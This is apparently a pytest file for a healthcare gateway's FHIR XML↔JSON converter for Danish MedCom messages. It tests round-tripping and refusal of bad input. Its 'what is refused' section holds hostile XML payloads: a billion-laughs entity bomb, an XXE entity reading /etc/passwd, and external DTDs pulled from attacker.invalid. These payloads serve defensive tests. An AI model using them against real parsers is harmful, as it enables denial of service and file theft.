"""FHIR XML ↔ JSON (medcom/fhir_xml.py): the published examples and the gateway's own Bundles
go JSON → XML → JSON unchanged; what certified systems sent in XML reads as ``fhir.resources``
(an independent implementation) reads it; our XML reads back in ``fhir.resources`` as the
JSON it came from; and hostile XML (entity bombs, external entities, DTDs, deep nesting) is
refused with a stable code before anything is expanded or fetched."""

from __future__ import annotations

import copy
import json
import random
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import defusedxml.ElementTree as SafeET
import pytest
from fhir.resources.R4B.bundle import Bundle as R4BBundle

from attest_gateway.core.errors import InvalidInput, Malformed
from attest_gateway.medcom.fhir_xml import MAX_XML_DEPTH, json_to_xml, xml_to_json
from attest_gateway.medcom.parse import parse_bundle
from attest_gateway.medcom.read import read_message
from attest_gateway.medcom.rules import check_attachments
from tests.support.fhir_elements import table
from tests.support.medcom_profiles import validate_bundle
from tests.unit.test_medcom_profiles import KINDS

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "medcom"
PUBLISHED = sorted(p.name for p in FIXTURES.glob("*.json"))
VERIFIED_XML = sorted(p.name for p in (FIXTURES / "verified").glob("*.xml"))
# Every XML message stored: the certified systems' and MedCom's own published XML examples.
ALL_XML = sorted(
    str(p.relative_to(FIXTURES)) for d in ("verified", "xml") for p in (FIXTURES / d).glob("*.xml")
)
SHIPPED_TABLE = (
    Path(__file__).resolve().parents[2] / "src" / "attest_gateway" / "data" / "fhir-elements.json"
)


def _published(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((FIXTURES / name).read_text(encoding="utf-8"))
    return data


def _canonical_divs(value: Any) -> Any:
    """The same JSON with each narrative div in canonical XML (C14N 2.0): two writers of the
    same XHTML differ in how they write an empty element, not in what it holds."""
    if isinstance(value, dict):
        return {
            k: ET.canonicalize(v) if k == "div" else _canonical_divs(v) for k, v in value.items()
        }
    if isinstance(value, list):
        return [_canonical_divs(v) for v in value]
    return value


def _r4b(bundle: R4BBundle) -> Any:
    return _canonical_divs(bundle.model_dump(mode="json"))


def test_the_shipped_element_table_is_the_one_fhir_resources_gives() -> None:
    assert json.loads(SHIPPED_TABLE.read_text(encoding="utf-8")) == table()


@pytest.mark.parametrize("name", PUBLISHED)
def test_published_examples_go_to_xml_and_back_unchanged(name: str) -> None:
    data = _published(name)
    assert xml_to_json(json_to_xml(data)) == data


@pytest.mark.parametrize("name", PUBLISHED)
def test_our_xml_reads_in_fhir_resources_as_the_json_it_came_from(name: str) -> None:
    data = _published(name)
    from_xml = R4BBundle.model_validate_xml(json_to_xml(data))
    assert _r4b(from_xml) == _r4b(R4BBundle.model_validate(data))


@pytest.mark.parametrize("name", ALL_XML)
def test_published_xml_validates_against_the_profiles(name: str) -> None:
    """A control, as the published JSON examples are: read from XML, no profile rule broken."""
    data = xml_to_json((FIXTURES / name).read_bytes())
    assert [i for i in validate_bundle(data) if i.severity == "error"] == []


@pytest.mark.parametrize("name", ALL_XML)
def test_published_xml_reads_as_fhir_resources_reads_it(name: str) -> None:
    raw = (FIXTURES / name).read_bytes()
    ours = xml_to_json(raw)
    assert _r4b(R4BBundle.model_validate(ours)) == _r4b(R4BBundle.model_validate_xml(raw))
    assert xml_to_json(json_to_xml(ours)) == ours


# What each certified system's message is, as the gateway reads it: (message type, the
# message it revises, the texts it adds).
UNDERSTOOD = {
    "EPIC_Sundhedsplatformen.xml": (
        "attest-reply",
        "30ad8ea6-bf87-4bdd-8b29-53109aec1217",
        ["svar 3.3.5.4"],
    ),
    "Nasure_EDI-Portalen.xml": (
        "attest-request",
        None,
        ["Patienten bruger krykker.\nDer er kommet nye øvelser til at forbedre balancen."],
    ),
    "Systematic_ColumnaCis.xml": ("attest-request", None, ["3.3.1.11 send protokol"]),
}


def test_every_certified_message_has_its_expectation() -> None:
    assert sorted(UNDERSTOOD) == VERIFIED_XML


@pytest.mark.parametrize("name", VERIFIED_XML)
def test_certified_systems_xml_is_understood(name: str) -> None:
    bundle = parse_bundle(xml_to_json((FIXTURES / "verified" / name).read_bytes()))
    info = read_message(bundle)
    assert (info.message_type, info.replied_to, info.new_texts) == UNDERSTOOD[name]
    assert None not in (info.sender.sor, info.sender.gln, info.receiver.sor, info.receiver.gln)
    assert info.cpr == "2509479989"
    assert info.conversation_id is not None
    check_attachments(bundle)  # EPIC repeats an earlier PDF by title and type, without data


def test_medcoms_transient_error_acknowledgement_in_xml_is_understood() -> None:
    raw = (FIXTURES / "xml" / "Bundle-c9c2b2f6-0807-11ed-861d-0242ac120002.xml").read_bytes()
    info = read_message(parse_bundle(xml_to_json(raw)))
    assert (info.message_type, info.response_code, info.issues) == (
        "acknowledgement",
        "transient-error",
        ["MSG_Mailbox_Out_Of_Operation"],
    )
    assert info.response_to == "53128d9b-cede-4c7f-8904-809eab322d7d"


def test_an_attachment_the_message_adds_must_still_carry_its_data() -> None:
    raw = (FIXTURES / "verified" / "EPIC_Sundhedsplatformen.xml").read_bytes()
    reply = xml_to_json(raw)
    provenance = next(
        e["resource"]
        for e in reply["entry"]
        if e["resource"]["resourceType"] == "Provenance"
        and e["resource"]["activity"]["coding"][0]["code"] == "reply-message"
    )
    provenance["entity"].append(  # the reply now claims the PDF segment as its own
        {"role": "source", "what": {"identifier": {"value": ATTACHMENT_SEGMENT}}}
    )
    with pytest.raises(InvalidInput) as caught:
        check_attachments(parse_bundle(reply))
    assert caught.value.code == "attachment-without-data"


ATTACHMENT_SEGMENT = "urn:uuid:4ecffe6e-dd41-4b20-9655-7b2747fa9b19"


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_the_gateways_bundles_as_xml_validate(kind: str) -> None:
    bundle = KINDS[kind]()
    back = xml_to_json(json_to_xml(bundle))
    assert back == bundle
    assert [i for i in validate_bundle(back) if i.severity == "error"] == []
    R4BBundle.model_validate_xml(json_to_xml(bundle))


def test_primitive_ids_extensions_and_types_survive() -> None:
    patient: dict[str, Any] = {
        "resourceType": "Patient",
        "id": "p1",
        "active": True,
        "multipleBirthInteger": 2,
        "name": [
            {
                "id": "n1",
                "use": "official",
                "family": "Jensen",
                "given": ["Jesper", None],
                "_given": [None, {"extension": [{"url": "urn:x:y", "valueString": "Jens"}]}],
            }
        ],
        "birthDate": "1947-09-25",
        "_birthDate": {
            "id": "b1",
            "extension": [
                {"url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
                 "valueDateTime": "1947-09-25T08:30:00+01:00"}
            ],
        },
        "contained": [{"resourceType": "Organization", "id": "o1", "name": "Æ Ø Å & <x>"}],
    }  # fmt: skip
    xml = json_to_xml(patient)
    root = SafeET.fromstring(xml)
    assert root.tag == "{http://hl7.org/fhir}Patient"
    assert root.find("{http://hl7.org/fhir}name").get("id") == "n1"  # type: ignore[union-attr]
    assert xml_to_json(xml) == patient


def test_decimals_and_integers_come_back_as_numbers() -> None:
    observation = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"text": "vægt"},
        "valueQuantity": {"value": 72.5, "unit": "kg"},
        "component": [{"code": {"text": "n"}, "valueInteger": 3}],
    }
    assert xml_to_json(json_to_xml(observation)) == observation


# --- what is refused --------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Bundle xmlns="http://hl7.org/fhir"><id value="&lol4;"/></Bundle>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE b [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Bundle xmlns="http://hl7.org/fhir"><id value="&xxe;"/></Bundle>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Bundle SYSTEM "http://attacker.invalid/fhir.dtd">
<Bundle xmlns="http://hl7.org/fhir"><id value="x"/></Bundle>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE b [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<Bundle xmlns="http://hl7.org/fhir"/>"""


@pytest.mark.parametrize(
    "document", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY]
)
def test_dtds_and_entities_are_refused(document: bytes) -> None:
    with pytest.raises(Malformed) as caught:
        xml_to_json(document)
    assert caught.value.code == "xml-not-allowed"


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"<Bundle",
        b"not xml",
        b'<Bundle xmlns="http://hl7.org/fhir"><id value="x"></Bundle>',
        b'<?xml version="1.0" encoding="no-such-encoding"?><Bundle/>',
        b'<Bundle xmlns="http://hl7.org/fhir"><id value="&#0;"/></Bundle>',
    ],
)
def test_what_is_not_well_formed_is_malformed(document: bytes) -> None:
    with pytest.raises(Malformed) as caught:
        xml_to_json(document)
    assert caught.value.code == "malformed-xml"


def test_damaged_documents_are_refused_with_a_code_never_a_crash() -> None:
    """Bytes changed at random in a certified system's message: every outcome is an input
    error of the gateway's tree (problem+json at the API), never another exception."""
    rng = random.Random(25)
    original = (FIXTURES / "verified" / "Nasure_EDI-Portalen.xml").read_bytes()
    codes = set()
    for _ in range(300):
        damaged = bytearray(original)
        for _ in range(rng.randint(1, 4)):
            damaged[rng.randrange(len(damaged))] = rng.randrange(256)
        try:
            xml_to_json(bytes(damaged))
        except InvalidInput as exc:
            codes.add(exc.code)
    assert codes <= {"malformed-xml", "invalid-bundle", "xml-not-allowed"}
    assert "malformed-xml" in codes


def test_deep_nesting_is_refused_before_it_is_read() -> None:
    depth = MAX_XML_DEPTH + 10
    document = (
        '<Bundle xmlns="http://hl7.org/fhir">' + "<extension>" * depth + "</extension>" * depth
    ) + "</Bundle>"
    with pytest.raises(InvalidInput) as caught:
        xml_to_json(document.encode())
    assert caught.value.code == "too-deeply-nested"


CPR = "2509479989"


@pytest.mark.parametrize(
    ("document", "where"),
    [
        (f'<Bundle xmlns="http://hl7.org/fhir"><cpr value="{CPR}"/></Bundle>', "Bundle.cpr"),
        (f'<Bundle><id value="{CPR}"/></Bundle>', "outside the FHIR namespace"),
        (f'<Patient xmlns="http://hl7.org/fhir"><{"x" * 3} value="{CPR}"/></Patient>', "xxx"),
        (
            f'<Bundle xmlns="http://hl7.org/fhir"><type value="message"/><id value="{CPR}"/>'
            "</Bundle>",
            "out of order",
        ),
        (
            f'<Bundle xmlns="http://hl7.org/fhir"><id value="{CPR}"/><id value="2"/></Bundle>',
            "repeats",
        ),
        (f'<Bundle xmlns="http://hl7.org/fhir"><id>{CPR}</id></Bundle>', "text"),
        (f'<Bundle xmlns="http://hl7.org/fhir" id="{CPR}"/>', "attribute"),
        (
            f'<Patient xmlns="http://hl7.org/fhir"><active value="{CPR}"/></Patient>',
            "not a boolean",
        ),
        (f'<NoSuchThing xmlns="http://hl7.org/fhir"><id value="{CPR}"/></NoSuchThing>', "no "),
        (
            '<Observation xmlns="http://hl7.org/fhir"><valueQuantity><value value="1e400"/>'
            "</valueQuantity></Observation>",
            "not a number",
        ),
    ],
)
def test_what_is_not_fhir_xml_is_refused_without_echoing_it(document: str, where: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        xml_to_json(document.encode())
    assert caught.value.code == "invalid-bundle"
    assert where in caught.value.detail
    assert CPR not in caught.value.detail


def test_json_that_fhir_does_not_define_is_not_written_silently() -> None:
    bundle = copy.deepcopy(_published(PUBLISHED[0]))
    bundle["entry"][0]["resource"]["notAnElement"] = CPR
    with pytest.raises(InvalidInput) as caught:
        json_to_xml(bundle)
    assert caught.value.code == "invalid-bundle"
    assert CPR not in caught.value.detail
